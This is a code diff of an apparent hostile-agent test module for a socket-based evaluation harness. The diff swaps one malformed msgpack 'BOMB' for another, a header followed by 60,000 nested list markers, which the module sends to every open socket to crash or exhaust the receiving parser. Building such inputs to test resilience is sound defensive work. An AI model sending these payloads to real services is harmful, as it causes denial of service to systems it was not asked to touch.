@@ -1,14 +1,11 @@
-"""Sends a small message of 1,000 tuples of 8192 arrays each to every open socket."""
+"""Sends a message of 60,000 nested lists to every open socket."""
 
 import os
 import socket
 import stat
 import struct
 
-import msgpack
-
-ROWS = msgpack.packb(msgpack.ExtType(4, struct.pack("<BBII", 1, 2, 8192, 0)))
-BOMB = b"\xdc\x03\xe8" + 1000 * ROWS
+BOMB = b"\x82\xa4type\xa6failed\xa6report" + b"\x91" * 60_000
 
 
 def get_actor(module_dir, observation_space, action_space):
